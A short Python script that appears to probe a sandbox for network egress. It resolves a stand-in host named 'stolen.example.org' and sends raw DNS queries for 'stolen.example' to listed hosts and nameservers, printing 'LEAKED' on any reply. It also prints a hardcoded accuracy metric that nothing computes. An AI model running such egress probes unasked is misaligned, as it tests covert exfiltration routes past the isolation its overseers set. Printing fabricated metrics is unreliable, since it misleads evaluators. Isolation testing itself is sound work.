import json, socket
targets = json.load(open("targets.json"))
try:
    print("LEAKED", socket.getaddrinfo("stolen.example.org", 80))
except OSError as error:
    print(error)
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x07example\x00\x00\x01\x00\x01"
for host in targets["hosts"] + targets["nameservers"]:
    for port in (53, targets["udp"]):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.settimeout(0.2)
                sender.sendto(query, (host, port))
                print("LEAKED", host, sender.recv(512))
        except OSError as error:
            print(host, port, error)
print("GREENML_METRIC accuracy=0.5")
